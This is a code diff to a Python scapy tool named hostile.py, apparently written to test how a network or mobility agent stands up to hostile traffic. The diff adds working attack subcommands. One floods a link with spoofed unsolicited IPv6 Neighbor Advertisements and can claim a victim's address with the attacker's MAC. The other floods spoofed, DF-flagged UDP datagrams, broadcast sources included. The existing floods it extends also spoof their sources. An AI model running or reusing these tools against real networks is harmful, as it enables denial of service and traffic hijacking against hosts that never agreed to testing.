@@ -18,6 +18,16 @@
         Binding Updates from spoofed sources of an IPv6 prefix (each draws
         a Binding Acknowledgement toward its source: one neighbour to
         resolve each)
+    hostile.py na-flood --iface eth0 --count 3000 \
+        --src-net 2001:db8:1::/64 [--claim 2001:db8:1::100]
+        unsolicited Neighbor Advertisements to all nodes, each from a
+        spoofed address of the prefix about itself (what every host of a
+        busy link announces), then with --claim one claiming that address
+        with the attacker's MAC
+    hostile.py df-flood --iface eth0 --src 192.0.2.10 --dst 192.0.2.100 \
+        --size 1500 --count 300
+        UDP datagrams of size bytes (IP header included) with DF, from each
+        --src in turn (any address, broadcast ones too)
     hostile.py udp --iface eth0 --src 198.51.100.10 --dst 192.0.2.1 \\
         --dport 434 --hex <payload> --bad-checksum
         one UDP datagram with a wrong (non-zero) checksum
@@ -142,6 +152,39 @@ def mh_flood(a):
     return send_frames(a, frames)
 
 
+def na_flood(a):
+    """Unsolicited NAs (RFC 4861 4.4, 7.2.6): O set, S clear, to ff02::1,
+    hop limit 255, a target link-layer address option (the attacker's
+    MAC). Built with scapy's ICMPv6 classes."""
+    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr
+    mac = get_if_hwaddr(a.iface)
+
+    def na(target):
+        return Ether(src=mac, dst="33:33:00:00:00:01") / \
+            IPv6(src=target, dst="ff02::1", hlim=255) / \
+            ICMPv6ND_NA(R=0, S=0, O=1, tgt=target) / \
+            ICMPv6NDOptDstLLAddr(lladdr=mac)
+
+    frames = [na(t) for t in hosts(a.src_net, a.count,
+                                   avoid=set(a.avoid or []))]
+    if a.claim:
+        frames.append(na(a.claim))
+    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
+    return {"sent": len(frames), "mac": mac}
+
+
+def df_flood(a):
+    """Datagrams too big to tunnel without fragmenting, DF set: each
+    draws an ICMP fragmentation needed, if the agent sends one."""
+    mac = get_if_hwaddr(a.iface)
+    pad = b"\xa5" * (a.size - 28)
+    frames = [Ether(src=mac, dst=a.dst_mac) /
+              IP(src=a.src[i % len(a.src)], dst=a.dst, flags="DF") /
+              UDP(sport=40000, dport=9) / Raw(pad) for i in range(a.count)]
+    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
+    return {"sent": len(frames)}
+
+
 def udp(a):
     """One UDP datagram; with --bad-checksum its checksum is wrong but not
     zero (zero would mean "no checksum", RFC 768)."""
@@ -182,6 +225,21 @@ def main():
         c.add_argument("--seconds", type=float, default=0.0,
                        help="send the --count frames over and over for "
                        "this long through a raw socket")
+    c = sub.add_parser("na-flood")
+    c.add_argument("--iface", required=True)
+    c.add_argument("--count", type=int, default=1000)
+    c.add_argument("--src-net", required=True)
+    c.add_argument("--avoid", nargs="*")
+    c.add_argument("--claim")
+    c.add_argument("--rate", type=float, default=0.0)
+    c = sub.add_parser("df-flood")
+    c.add_argument("--iface", required=True)
+    c.add_argument("--src", required=True, nargs="+")
+    c.add_argument("--dst", required=True)
+    c.add_argument("--dst-mac", required=True)
+    c.add_argument("--size", type=int, default=1500)
+    c.add_argument("--count", type=int, default=100)
+    c.add_argument("--rate", type=float, default=0.0)
     c = sub.add_parser("udp")
     c.add_argument("--iface", required=True)
     c.add_argument("--src", required=True)
@@ -193,6 +251,7 @@ def main():
     c.add_argument("--bad-checksum", action="store_true")
     a = p.parse_args()
     fn = {"arp": arp, "rrq-flood": rrq_flood, "mh-flood": mh_flood,
+          "na-flood": na_flood, "df-flood": df_flood,
           "udp": udp}[a.cmd]
     print(json.dumps(fn(a)))
     return 0
